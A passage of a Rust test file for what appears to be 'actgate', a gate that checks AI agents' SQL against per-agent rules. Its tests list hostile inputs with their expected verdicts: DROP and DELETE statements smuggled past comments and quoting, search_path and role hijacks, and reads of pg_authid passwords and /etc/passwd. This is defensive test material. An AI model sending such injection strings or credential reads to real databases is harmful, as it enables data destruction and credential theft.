            "SELECT /* ; DELETE FROM orders */ id FROM orders",
            "allow",
        ),
        // Postgres nests block comments.
        (
            A,
            "SELECT 1 /* outer /* inner */ ; DROP TABLE orders; */",
            "allow",
        ),
        (
            A,
            "SELECT 1 /* a /* b */ */; DROP TABLE orders",
            "statement_class_denied",
        ),
        (A, "SELECT 1 /* unterminated", "deny"),
        (A, "SELECT $$; DROP TABLE x; $$", "allow"),
        (A, "SELECT $tag$ $$ ; DROP TABLE orders; $tag$", "allow"),
        (
            A,
            "SELECT $a$x$a$; DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        // `a$b$` is one identifier to Postgres, which then fails on the
        // unterminated `$b$`: nothing runs. Never allow.
        (
            A,
            "SELECT 1 AS a$b$; DELETE FROM orders WHERE id = 1; SELECT $b$",
            "deny",
        ),
        (A, "SELECT 'it''s'", "allow"),
        (
            A,
            "SELECT 'it''s; DELETE FROM orders WHERE id = 1'",
            "allow",
        ),
        (A, r"SELECT E'\''", "allow"),
        // E'…': the backslash escapes the quote, all one literal (PG 15).
        (
            A,
            r"SELECT E'\'; DELETE FROM orders WHERE id = 1; --'",
            "allow",
        ),
        (
            A,
            r"SELECT e'\x27; DELETE FROM orders WHERE id = 1; --'",
            "allow",
        ),
        // Standard strings: the backslash is a plain character and the
        // DELETE runs (PG 15 with standard_conforming_strings = on).
        (
            A,
            r"SELECT '\'; DELETE FROM orders WHERE id = 1; --'",
            "statement_class_denied",
        ),
        (
            A,
            r"SELECT '\'; SELECT * FROM staff_users; --'",
            "table_denied",
        ),
        (A, "SELECT $$it's$$", "allow"),
        (
            A,
            "SELECT '--', 1; DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (A, "-- ping", "allow"),
        (A, "", "allow"),
        (A, ";", "allow"),
        // Nesting beyond the recursion limit fails closed.
        (
            A,
            &format!("SELECT {}1{}", "(".repeat(200), ")".repeat(200)),
            "deny",
        ),
    ]);
}

/// Size and shape bounds (SECURITY: "Denial of service from one client").
#[test]
fn size_limits() {
    let or_chain = format!("SELECT 1 WHERE {}true", "1 = 1 OR ".repeat(40_000));
    let long_select = format!("SELECT {}1", "1 + ".repeat(70_000));
    let in_list = format!(
        "SELECT count(*) FROM orders WHERE id IN ({})",
        (1..=5_000)
            .map(|i| i.to_string())
            .collect::<Vec<_>>()
            .join(", ")
    );
    let or_ids = format!(
        "SELECT count(*) FROM orders WHERE {}",
        (1..=500)
            .map(|i| format!("id = {i}"))
            .collect::<Vec<_>>()
            .join(" OR ")
    );
    check(&[
        (A, &or_chain, "statement_too_long"),
        (A, &long_select, "statement_too_long"),
        (A, &in_list, "allow"),
        (A, &or_ids, "allow"),
    ]);
}

/// Settings that change lexing, identity or security are pinned; harmless
/// ones drivers send are allowed (SECURITY: "Session state changes lexing").
#[test]
fn session_settings() {
    check(&[
        (A, "SET search_path = evil, public", "setting_pinned"),
        (A, "SET search_path TO DEFAULT", "setting_pinned"),
        (A, "set SEARCH_PATH = public", "setting_pinned"),
        (A, r#"SET "search_path" = evil"#, "setting_pinned"),
        // Postgres matches setting names case-insensitively, quoted or not.
        (A, r#"SET "SEARCH_PATH" = evil"#, "setting_pinned"),
        (A, "SET LOCAL search_path = evil", "setting_pinned"),
        (A, "SET SESSION search_path = evil", "setting_pinned"),
        (A, "RESET search_path", "setting_pinned"),
        (A, "SET role = 'postgres'", "setting_pinned"),
        (A, "SET ROLE postgres", "setting_pinned"),
        (A, "SET LOCAL ROLE postgres", "setting_pinned"),
        (A, "RESET ROLE", "setting_pinned"),
        (A, "SET SESSION AUTHORIZATION postgres", "setting_pinned"),
        (A, "RESET SESSION AUTHORIZATION", "setting_pinned"),
        (A, "SET client_encoding = 'SJIS'", "setting_pinned"),
        (A, "SET CLIENT_ENCODING TO 'SJIS'", "setting_pinned"),
        (A, "SET NAMES 'SJIS'", "setting_pinned"),
        // SET SCHEMA 'x' is SET search_path TO 'x' (PG 15).
        (A, "SET SCHEMA 'evil'", "setting_pinned|parse_error"),
        (A, "SET standard_conforming_strings = off", "setting_pinned"),
        (
            A,
            "SET standard_conforming_strings TO off",
            "setting_pinned",
        ),
        (A, "SET backslash_quote = on", "setting_pinned"),
        (
            A,
            "SET default_transaction_read_only = off",
            "setting_pinned",
        ),
        (
            A,
            "SET session_replication_role = replica",
            "setting_pinned",
        ),
        (A, "SET row_security = off", "setting_pinned"),
        (A, "SET actgate.anything = 1", "setting_pinned"),
        // SET SESSION CHARACTERISTICS … READ WRITE is
        // SET default_transaction_read_only = off.
        (
            A,
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            "setting_pinned",
        ),
        (
            A,
            "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            "allow",
        ),
        (
            A,
            "SELECT set_config('search_path', 'evil', false)",
            "function_not_allowed|setting_pinned|setting_denied",
        ),
        (
            A,
            "SELECT pg_catalog.set_config('role', 'postgres', false)",
            "function_not_allowed|setting_pinned|setting_denied",
        ),
        (
            A,
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            "function_not_allowed|setting_pinned|setting_denied",
        ),
        (
            A,
            "SELECT set_config('app.user_id', '42', false)",
            "function_not_allowed|setting_pinned|setting_denied",
        ),
        (
            A,
            "SELECT current_setting('app.user_id')",
            "function_not_allowed|setting_denied",
        ),
        (
            S,
            "SELECT set_config('client_encoding', 'SJIS', false)",
            "function_not_allowed|setting_pinned|setting_denied",
        ),
        // The tester may call set_config, but pinned settings stay pinned.
        (
            T,
            "SELECT set_config('search_path', 'evil', false)",
            "setting_pinned",
        ),
        (
            T,
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            "setting_pinned",
        ),
        (
            T,
            "SELECT set_config('client_encoding', 'SJIS', false)",
            "setting_pinned",
        ),
        (
            T,
            "SELECT set_config('role', 'postgres', false)",
            "setting_pinned",
        ),
        (
            T,
            "SELECT pg_catalog.set_config('SEARCH_PATH', 'evil', true)",
            "setting_pinned",
        ),
        (T, "SET search_path = evil", "setting_pinned"),
        (T, "SET app.user_id = '1'", "setting_denied"),
        // … and a custom setting the agent may not SET it may not set_config.
        (
            T,
            "SELECT set_config('app.user_id', '1', false)",
            "setting_denied",
        ),
        (T, "SELECT current_setting('search_path')", "allow"),
        (A, "RESET ALL", "allow"),
        (A, "DISCARD ALL", "allow"),
        (A, "SET app.user_id = '1'", "setting_denied"),
        (A, "SET LOCAL app.user_id = '1'", "setting_denied"),
        (A, "SET SESSION app.tenant = 'acme'", "setting_denied"),
        (A, "RESET app.user_id", "setting_denied"),
        (A, "SHOW app.user_id", "setting_denied"),
        (A, "SET application_name = 'x'", "allow"),
        (A, "SET statement_timeout = 1000", "allow"),
        (A, "SET statement_timeout TO '5s'", "allow"),
        (A, "SET LOCAL statement_timeout = '1s'", "allow"),
        (A, "SET TIME ZONE 'UTC'", "allow"),
        (A, "SET TIMEZONE = 'UTC'", "allow"),
        (A, "SET timezone TO 'Europe/Berlin'", "allow"),
        (A, "SET DateStyle = 'ISO, MDY'", "allow"),
        (A, "SET extra_float_digits = 3", "allow"),
        (A, "SET client_min_messages = warning", "allow"),
        (A, "RESET statement_timeout", "allow"),
        (A, "SHOW search_path", "allow"),
        (A, "SHOW standard_conforming_strings", "allow"),
        (A, "SHOW TIME ZONE", "allow"),
        (A, "SHOW transaction isolation level", "allow"),
        (A, "SET work_mem = '64MB'", "allow"),
        (A, "SET log_statement = 'none'", "setting_denied"),
        (
            A,
            "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ",
            "allow",
        ),
    ]);
}

/// Making the session more restrictive only narrows it: allowed. What
/// would widen it beyond the start value actgate let it begin with stays
/// pinned (issue 12, item 6). RESET and `TO DEFAULT` return to that start
/// value, which an agent can never have widened.
#[test]
fn read_only_sessions_narrow() {
    check(&[
        (A, "SET default_transaction_read_only TO on", "allow"),
        (A, "SET default_transaction_read_only = on", "allow"),
        (A, "SET default_transaction_read_only = 'on'", "allow"),
        (A, "SET default_transaction_read_only = true", "allow"),
        (A, "SET default_transaction_read_only = 1", "allow"),
        (A, "SET default_transaction_read_only = 'yes'", "allow"),
        (A, "SET SESSION default_transaction_read_only = ON", "allow"),
        (A, "SET LOCAL default_transaction_read_only = on", "allow"),
        (S, "SET default_transaction_read_only TO on", "allow"),
        (T, "SET default_transaction_read_only TO on", "allow"),
        (A, "SET default_transaction_read_only TO DEFAULT", "allow"),
        (A, "SET default_transaction_read_only = default", "allow"),
        (A, "RESET default_transaction_read_only", "allow"),
        (S, "RESET default_transaction_read_only", "allow"),
        (
            A,
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
            "allow",
        ),
        (
            A,
            "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY",
            "allow",
        ),
        // Widening stays refused: actgate cannot know the session began
        // read-write.
        (
            A,
            "SET default_transaction_read_only = off",
            "setting_pinned",
        ),
        (
            A,
            "SET default_transaction_read_only TO 'off'",
            "setting_pinned",
        ),
        (
            A,
            "SET default_transaction_read_only = false",
            "setting_pinned",
        ),
        (A, "SET default_transaction_read_only = 0", "setting_pinned"),
        (
            A,
            "SET default_transaction_read_only = 'no'",
            "setting_pinned",
        ),
        (
            A,
            "SET LOCAL default_transaction_read_only = off",
            "setting_pinned",
        ),
        // Not a boolean PostgreSQL would take as true: not narrowing.
        (
            A,
            "SET default_transaction_read_only = 'onx'",
            "setting_pinned",
        ),
        (
            A,
            "SET default_transaction_read_only = 'o'",
            "setting_pinned",
        ),
        (
            A,
            "SET default_transaction_read_only = on, off",
            "setting_pinned",
        ),
        (
            A,
            "SET default_transaction_read_only = (SELECT 'on')",
            "deny",
        ),
        (
            S,
            "SET default_transaction_read_only = off",
            "setting_pinned",
        ),
        (
            A,
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            "setting_pinned",
        ),
        (
            A,
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY, READ WRITE",
            "setting_pinned",
        ),
        (
            T,
            "SELECT set_config('default_transaction_read_only', 'off', false)",
            "setting_pinned",
        ),
        // The other pinned settings stay pinned whatever the value.
        (A, "SET row_security = on", "setting_pinned"),
        (A, "RESET row_security", "setting_pinned"),
        (
            A,
            "SET session_replication_role TO DEFAULT",
            "setting_pinned",
        ),
        (A, "SET search_path TO DEFAULT", "setting_pinned"),
    ]);
}

/// Pool resets (asyncpg's `SELECT pg_advisory_unlock_all(); CLOSE ALL;
/// UNLISTEN *; RESET ALL;`, pgbouncer-style `DISCARD ALL`) restore the
/// session's start values, which hold every pinned and identity setting:
/// allowed for every agent (issue 12, item 7). Identity changes stay
/// refused.
#[test]
fn pool_resets() {
    const ASYNCPG_RESET: &str =
        "SELECT pg_advisory_unlock_all(); CLOSE ALL; UNLISTEN *; RESET ALL;";
    let claims = [("customer_id", "42")];
    for agent in ["support-bot", "order-assistant"] {
        for sql in [
            ASYNCPG_RESET,
            "SELECT pg_advisory_unlock_all()",
            "CLOSE ALL",
            "UNLISTEN *",
            "RESET ALL",
            "DISCARD ALL",
        ] {
            assert_eq!(
                common::policy::outcome_with_claims(agent, sql, &claims),
                "allow",
                "[{agent}] {sql}"
            );
        }
    }
    check(&[
        (A, ASYNCPG_RESET, "allow"),
        (S, ASYNCPG_RESET, "allow"),
        (T, ASYNCPG_RESET, "allow"),
        (S, "RESET ALL", "allow"),
        (T, "RESET ALL", "allow"),
        (S, "DISCARD ALL", "allow"),
        (T, "DISCARD ALL", "allow"),
        (S, "SELECT pg_advisory_unlock_all()", "allow"),
        // Taking locks is still not a driver's business.
        (S, "SELECT pg_advisory_lock(1)", "function_not_allowed"),
        (S, "SELECT pg_advisory_unlock(1)", "function_not_allowed"),
        // Identity and lexing stay pinned.
        (S, "RESET ROLE", "setting_pinned"),
        (S, "RESET SESSION AUTHORIZATION", "setting_pinned"),
        (S, "SET SESSION AUTHORIZATION DEFAULT", "setting_pinned"),
        (S, "SET ROLE NONE", "setting_pinned"),
        (S, "RESET search_path", "setting_pinned"),
        (S, "RESET client_encoding", "setting_pinned"),
        (S, "RESET actgate.agent", "setting_pinned"),
        (S, "DISCARD ALL; SET ROLE postgres", "setting_pinned"),
        (S, "RESET ALL; SET search_path = evil", "setting_pinned"),
        // Other DISCARDs are still the session class's.
        (S, "DISCARD PLANS", "setting_denied"),
        (S, "DISCARD TEMP", "setting_denied"),
    ]);
}

/// Without the driver profile, RESET ALL / DISCARD ALL need
/// `settings = ["all"]`, as before; narrowing needs nothing.
#[test]
fn pool_resets_without_the_driver_profile() {
    use actgate::policy::analyze::{AnalysisLimits, analyze};
    use actgate::policy::names::Resolver;
    use actgate::policy::{SessionState, Verdict};
    let dir = tempfile::tempdir().unwrap();
    for (name, extra) in [("strict", ""), ("strict-resets", "settings = [\"all\"]\n")] {
        let text = format!(
            "[agent]\nname = \"{name}\"\ndatabases = [\"shop\"]\nauth = \"token\"\n\n\
             [policy]\nstatements = [\"read\"]\ndriver_profile = false\n{extra}"
        );
        std::fs::write(dir.path().join(format!("{name}.toml")), text).unwrap();
    }
    let rules = actgate::rules::RuleSet::load_dir(dir.path(), &["public".into()]).unwrap();
    let search_path = vec!["public".to_string()];
    let outcome = |agent: &str, sql: &str| {
        let resolver = Resolver {
            search_path: &search_path,
            catalog: None,
            database: Some("shop"),
        };
        let analysis = analyze(sql, &resolver, AnalysisLimits::default());
        let policy = &rules.agent(agent).unwrap().policy;
        match policy.decide(&analysis, None, &SessionState::default(), None) {
            Verdict::Allow => "allow".to_string(),
            Verdict::Deny(d) => d.reason.to_string(),
        }
    };
    for (agent, sql, expected) in [
        ("strict", "RESET ALL", "setting_denied"),
        ("strict", "DISCARD ALL", "setting_denied"),
        ("strict-resets", "RESET ALL", "allow"),
        ("strict-resets", "DISCARD ALL", "allow"),
        ("strict", "SET default_transaction_read_only = on", "allow"),
        ("strict", "RESET default_transaction_read_only", "allow"),
        (
            "strict",
            "SET default_transaction_read_only = off",
            "setting_pinned",
        ),
        ("strict-resets", "RESET ROLE", "setting_pinned"),
    ] {
        assert_eq!(outcome(agent, sql), expected, "[{agent}] {sql}");
    }
}

/// Transaction modes as drivers send them (psycopg and asyncpg
/// `deferrable=True`, pgx `BeginTx`): per-transaction modes are the
/// transaction class; session defaults are settings, where only READ ONLY
/// narrows the pinned `default_transaction_read_only` and READ WRITE stays
/// refused, whatever else the statement says (issue 12, items 2 and 6).
#[test]
fn transaction_modes() {
    check(&[
        (
            A,
            "BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE",
            "allow",
        ),
        (
            A,
            "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE",
            "allow",
        ),
        (A, "BEGIN TRANSACTION NOT DEFERRABLE", "allow"),
        (A, "BEGIN WORK READ ONLY DEFERRABLE", "allow"),
        (A, "START TRANSACTION READ ONLY, DEFERRABLE", "allow"),
        (
            A,
            "START TRANSACTION ISOLATION LEVEL REPEATABLE READ, NOT DEFERRABLE",
            "allow",
        ),
        (
            A,
            "BEGIN READ ONLY, DEFERRABLE; SELECT count(*) FROM orders; COMMIT",
            "allow",
        ),
        (
            A,
            "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE",
            "allow",
        ),
        (A, "SET TRANSACTION NOT DEFERRABLE", "allow"),
        (A, "SET LOCAL TRANSACTION READ ONLY", "allow"),
        (A, "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'", "allow"),
        (A, "SET CONSTRAINTS ALL DEFERRED", "allow"),
        (
            A,
            "SET CONSTRAINTS orders_customer_id_fkey IMMEDIATE",
            "allow",
        ),
        (S, "SET CONSTRAINTS ALL IMMEDIATE", "allow"),
        (
            A,
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY, DEFERRABLE",
            "allow",
        ),
        (
            A,
            "SET SESSION CHARACTERISTICS AS TRANSACTION DEFERRABLE",
            "allow",
        ),
        (
            S,
            "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE READ ONLY NOT DEFERRABLE",
            "allow",
        ),
        // Per-transaction READ WRITE is SET transaction_read_only = off,
        // which the driver profile allows (as before): it opens no class
        // the rules do not allow.
        (A, "BEGIN READ WRITE", "allow"),
        (A, "SET TRANSACTION READ WRITE", "allow"),
        (
            A,
            "BEGIN READ WRITE, DEFERRABLE; DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (
            A,
            "START TRANSACTION READ ONLY, DEFERRABLE; SELECT email FROM customers",
            "column_denied",
        ),
        // Widening the session default stays pinned, in any company.
        (
            A,
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE, DEFERRABLE",
            "setting_pinned",
        ),
        (
            A,
            "SET SESSION CHARACTERISTICS AS TRANSACTION DEFERRABLE READ WRITE",
            "setting_pinned",
        ),
        (
            A,
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY, READ WRITE",
            "setting_pinned",
        ),
        (
            T,
            "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
            "setting_pinned",
        ),
        // Not PostgreSQL, or not understood: refused.
        (A, "BEGIN ISOLATION LEVEL SNAPSHOT", "parse_error"),
        (A, "BEGIN TRAN", "parse_error"),
        (A, "BEGIN DEFERRED", "parse_error"),
        (A, "BEGIN READ ONLY,", "parse_error"),
        (A, "SET TRANSACTION", "parse_error"),
        (A, "SET TRANSACTION SNAPSHOT 1", "parse_error"),
        (
            A,
            "SET LOCAL CHARACTERISTICS AS TRANSACTION READ WRITE",
            "deny",
        ),
        (A, "SET CONSTRAINTS ALL", "parse_error"),
        (A, "SET constraints = 'all'", "setting_denied"),
    ]);
}

/// FETCH and MOVE in every direction PostgreSQL accepts (asyncpg
/// `Cursor.forward()`, psycopg named-cursor `scroll()`). MOVE returns no
/// rows and moves only the session's own cursor: housekeeping, like CLOSE
/// (issue 12, item 3).
#[test]
fn cursor_movement() {
    let mut cases = Vec::new();
    for direction in [
        "",
        "FROM ",
        "IN ",
        "NEXT ",
        "NEXT FROM ",
        "PRIOR FROM ",
        "FIRST IN ",
        "LAST ",
        "ABSOLUTE 3 FROM ",
        "ABSOLUTE -1 FROM ",
        "RELATIVE -2 ",
        "RELATIVE +2 IN ",
        "5 FROM ",
        "-5 FROM ",
        "ALL ",
        "ALL FROM ",
        "FORWARD ",
        "FORWARD 10 FROM ",
        "FORWARD ALL IN ",
        "BACKWARD FROM ",
        "BACKWARD 2 ",
        "BACKWARD ALL FROM ",
    ] {
        for cursor in ["c", "\"C 1\""] {
            cases.push((A, format!("MOVE {direction}{cursor}"), "allow"));
            cases.push((S, format!("MOVE {direction}{cursor}"), "allow"));
            cases.push((T, format!("FETCH {direction}{cursor}"), "allow"));
        }
    }
    let cases: Vec<(&str, &str, &str)> =
        cases.iter().map(|(a, s, e)| (*a, s.as_str(), *e)).collect();
    check(&cases);
    check(&[
        (A, "MOVE FORWARD 3 \"__asyncpg_cursor_1__\"", "allow"),
        (A, "MOVE ABSOLUTE 5 FROM \"pg3_cursor\"", "allow"),
        (A, "MOVE 1 FROM c; CLOSE c", "allow"),
        // Moving is no licence for anything else in the message.
        (
            A,
            "MOVE 1 FROM c; DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (
            A,
            "MOVE 1 FROM c; SELECT * FROM staff_users",
            "table_denied",
        ),
        // FETCH … INTO and other non-PostgreSQL shapes are refused.
        (T, "FETCH 1 FROM c INTO x", "parse_error"),
        (A, "MOVE 1 FROM c INTO x", "parse_error"),
        (A, "MOVE", "parse_error"),
        (A, "MOVE 1.5 FROM c", "parse_error"),
        (A, "MOVE 99999999999 FROM c", "parse_error"),
        (A, "MOVE 1 FROM s.c", "parse_error"),
        (T, "FETCH FROM", "parse_error"),
    ]);
}

/// Without the driver profile, MOVE and transaction statements need their
/// classes, as before; narrowing the session still needs nothing.
#[test]
fn transaction_modes_without_the_driver_profile() {
    use actgate::policy::analyze::{AnalysisLimits, analyze};
    use actgate::policy::names::Resolver;
    use actgate::policy::{SessionState, Verdict};
    let dir = tempfile::tempdir().unwrap();
    let text = "[agent]\nname = \"strict\"\ndatabases = [\"shop\"]\nauth = \"token\"\n\n\
                [policy]\nstatements = [\"read\"]\ndriver_profile = false\n";
    std::fs::write(dir.path().join("strict.toml"), text).unwrap();
    let rules = actgate::rules::RuleSet::load_dir(dir.path(), &["public".into()]).unwrap();
    let search_path = vec!["public".to_string()];
    let outcome = |sql: &str| {
        let resolver = Resolver {
            search_path: &search_path,
            catalog: None,
            database: Some("shop"),
        };
        let analysis = analyze(sql, &resolver, AnalysisLimits::default());
        let policy = &rules.agent("strict").unwrap().policy;
        match policy.decide(&analysis, None, &SessionState::default(), None) {
            Verdict::Allow => "allow".to_string(),
            Verdict::Deny(d) => d.reason.to_string(),
        }
    };
    for (sql, expected) in [
        ("MOVE FORWARD 1 FROM c", "statement_class_denied"),
        ("BEGIN READ ONLY, DEFERRABLE", "statement_class_denied"),
        ("SET CONSTRAINTS ALL DEFERRED", "statement_class_denied"),
        (
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
            "allow",
        ),
        (
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY, DEFERRABLE",
            "setting_denied",
        ),
        (
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            "setting_pinned",
        ),
    ] {
        assert_eq!(outcome(sql), expected, "{sql}");
    }
}

/// Row locks and LOCK TABLE need lock rights (update implies them).
#[test]
fn locks() {
    check(&[
        (S, "SELECT * FROM orders FOR UPDATE", "allow"),
        (
            S,
            "SELECT * FROM orders WHERE id = 1 FOR UPDATE NOWAIT",
            "allow",
        ),
        (
            S,
            "SELECT * FROM orders WHERE id = 1 FOR UPDATE SKIP LOCKED",
            "allow",
        ),
        (S, "SELECT * FROM orders FOR SHARE", "allow"),
        // PG accepts FOR KEY SHARE; sqlparser does not: rejected syntax
        // fails closed with a parse denial.
        (S, "SELECT * FROM orders FOR KEY SHARE", "parse_error"),
        (
            S,
            "SELECT * FROM orders o WHERE o.id = 1 FOR UPDATE OF o",
            "allow",
        ),
        (
            A,
            "SELECT * FROM orders FOR UPDATE",
            "operation_not_allowed",
        ),
        (A, "SELECT * FROM orders FOR SHARE", "operation_not_allowed"),
        (
            A,
            "select * from orders for update",
            "operation_not_allowed",
        ),
        (
            A,
            "SELECT * FROM orders FOR KEY SHARE",
            "operation_not_allowed|parse_error",
        ),
        (
            S,
            "SELECT * FROM products FOR UPDATE",
            "operation_not_allowed",
        ),
        // Locks every table of the FROM list.
        (
            S,
            "SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE",
            "operation_not_allowed",
        ),
        (
            S,
            "SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF o",
            "allow",
        ),
        (
            S,
            "SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF c",
            "operation_not_allowed",
        ),
        (
            S,
            "SELECT o.id FROM (orders o JOIN customers c ON c.id = o.customer_id) FOR SHARE",
            "operation_not_allowed",
        ),
        // A locking clause applies to the tables of a sub-SELECT in FROM
        // (PG 15 takes RowShareLock and marks customers' rows).
        (
            S,
            "SELECT id FROM (SELECT id FROM customers) s WHERE id = 1 FOR UPDATE",
            "operation_not_allowed",
        ),
        (
            A,
            "SELECT id FROM (SELECT id FROM orders) s FOR SHARE",
            "operation_not_allowed",
        ),
        (
            S,
            "SELECT id FROM (SELECT id FROM customers) s FOR UPDATE OF s",
            "operation_not_allowed|table_not_allowed",
        ),
        (
            A,
            "SELECT id FROM (SELECT id FROM orders FOR UPDATE) s",
            "operation_not_allowed",
        ),
        (
            S,
            "WITH x AS (SELECT id FROM customers FOR UPDATE) SELECT * FROM x",
            "operation_not_allowed",
        ),
        (
            A,
            "SELECT id FROM orders WHERE id IN (SELECT order_id FROM refunds FOR UPDATE)",
            "operation_not_allowed",
        ),
        // Rejected syntax: a clear parse denial.
        (S, "SELECT * FROM orders FOR NO KEY UPDATE", "parse_error"),
        (A, "SELECT * FROM orders FOR NO KEY UPDATE", "deny"),
        (A, "LOCK TABLE orders", "statement_class_denied"),
        (S, "LOCK TABLE orders", "statement_class_denied"),
        (
            S,
            "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
            "statement_class_denied",
        ),
        (A, "LOCK staff_users", "table_denied"),
        (T, "LOCK TABLE orders IN SHARE MODE", "allow"),
        (T, "LOCK TABLE orders", "allow"),
        (T, "LOCK TABLE audit.log", "table_not_allowed"),
    ]);
}

/// Reads through driver features (issue 12, item 8): a cursor, COPY … TO
/// STDOUT, EXPLAIN without ANALYZE and PREPARE are judged by the statement
/// they wrap under the agent's rules, whatever that decides (SECURITY: a
/// wrapper must never launder a denied table, column or function).
#[test]
fn wrapped_statements_are_judged_as_themselves() {
    const WRAPPERS: &[&str] = &[
        "DECLARE c CURSOR FOR {}",
        "DECLARE \"c\" NO SCROLL CURSOR WITHOUT HOLD FOR {}",
        "DECLARE c CURSOR WITH HOLD FOR {}",
        "COPY ({}) TO STDOUT",
        "COPY ({}) TO STDOUT WITH (FORMAT csv, HEADER)",
        "EXPLAIN {}",
        "EXPLAIN VERBOSE {}",
        "EXPLAIN (FORMAT JSON, COSTS off) {}",
        "EXPLAIN (ANALYZE false) {}",
        "PREPARE p AS {}",
    ];
    let reads: &[(&str, &str)] = &[
        (A, "SELECT id, status FROM orders"),
        (A, "SELECT * FROM orders"),
        (A, "SELECT id, country FROM customers"),
        (A, "SELECT email FROM customers"),
        (A, "SELECT * FROM customers"),
        (
            A,
            "SELECT c.email FROM orders o JOIN customers c ON c.id = o.customer_id",
        ),
        (A, "SELECT created_by FROM refunds"),
        (A, "SELECT * FROM staff_users"),
        (A, "SELECT * FROM payment_methods"),
        (
            A,
            "SELECT id FROM orders WHERE customer_id IN (SELECT customer_id FROM payment_methods)",
        ),
        (A, "SELECT * FROM pg_authid"),
        (A, "SELECT rolpassword FROM pg_catalog.pg_authid"),
        (A, "SELECT pg_sleep(1)"),
        (A, "SELECT pg_read_file('/etc/passwd')"),
        (A, "SELECT * FROM audit.log"),
        (A, r#"SELECT * FROM "Orders""#),
        (A, "SELECT oid FROM pg_type"),
        (S, "SELECT id, status FROM orders"),
        (S, "SELECT marketing_opt_in FROM customers"),
        (S, "SELECT * FROM staff_users"),
        (T, "SELECT * FROM pg_authid"),
    ];
    let mut failures = Vec::new();
    let mut compared = 0;
    for (agent, inner) in reads {
        let want = outcome(agent, inner);
        for w in WRAPPERS {
            let sql = w.replace("{}", inner);
            let got = outcome(agent, &sql);
            compared += 1;
            if got != want {
                failures.push(format!(
                    "  [{agent}] {sql}\n      expected {want} (as {inner}), got {got}"
                ));
            }
        }
    }
    // Writes: EXPLAIN and PREPARE judge them as the write itself.
    let writes: &[(&str, &str)] = &[
        (A, "DELETE FROM orders WHERE id = 1"),
        (A, "UPDATE orders SET status = 'x' WHERE id = 1"),
        (A, "INSERT INTO orders (status) VALUES ('x')"),
        (S, "UPDATE orders SET status = 'shipped' WHERE id = 1"),
        (S, "UPDATE orders SET status = 'shipped'"),
        (S, "UPDATE orders SET total_cents = 0 WHERE id = 1"),
        (S, "DELETE FROM orders WHERE id = 1"),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents) VALUES (1, 60000)",
        ),
    ];
    for (agent, inner) in writes {
        let want = outcome(agent, inner);
        for w in ["EXPLAIN {}", "PREPARE p AS {}"] {
            let sql = w.replace("{}", inner);
            let got = outcome(agent, &sql);
            compared += 1;
            if got != want {
                failures.push(format!(
                    "  [{agent}] {sql}\n      expected {want} (as {inner}), got {got}"
                ));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {compared} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Each relaxation of issue 12 item 8 and its still-refused neighbours.
#[test]
fn driver_reads_and_their_refused_neighbours() {
    const R: &str = "reads-denied";
    const P: &str = "plain-reads";
    check(&[
        // Named cursors (psycopg, SQLAlchemy stream_results).
        (A, "DECLARE c CURSOR FOR SELECT id FROM orders", "allow"),
        (
            A,
            r#"DECLARE "c" CURSOR WITHOUT HOLD FOR SELECT id, status FROM orders WHERE id > 10"#,
            "allow",
        ),
        (
            A,
            "DECLARE c CURSOR FOR SELECT email FROM customers",
            "column_denied",
        ),
        (
            A,
            "DECLARE c CURSOR FOR SELECT * FROM staff_users",
            "table_denied",
        ),
        (A, "FETCH 10 FROM c", "allow"),
        (A, "FETCH FORWARD 2000 FROM \"c\"", "allow"),
        (A, "FETCH ALL IN c", "allow"),
        (A, "CLOSE c", "allow"),
        (A, "FETCH 10 FROM c INTO t", "deny"),
        // A cursor over a write is not valid SQL, nor a data-modifying CTE
        // in one: refused whatever the parser makes of it.
        (
            A,
            "DECLARE c CURSOR FOR DELETE FROM orders RETURNING *",
            "deny",
        ),
        (
            A,
            "DECLARE c CURSOR FOR WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
            "statement_class_denied",
        ),
        (
            A,
            "DECLARE c CURSOR FOR SELECT * INTO stolen FROM orders",
            "deny",
        ),
        // COPY … TO STDOUT, of a table or a query.
        (A, "COPY orders TO STDOUT", "allow"),
        (A, "COPY orders (id, status) TO STDOUT", "allow"),
        (A, "COPY customers (id, country) TO STDOUT", "allow"),
        (A, "COPY customers TO STDOUT", "column_denied"),
        (A, "COPY customers (id, email) TO STDOUT", "column_denied"),
        (A, "COPY staff_users TO STDOUT", "table_denied"),
        (A, "COPY payment_methods (id) TO STDOUT", "table_denied"),
        (A, "COPY pg_authid TO STDOUT", "credential_catalog"),
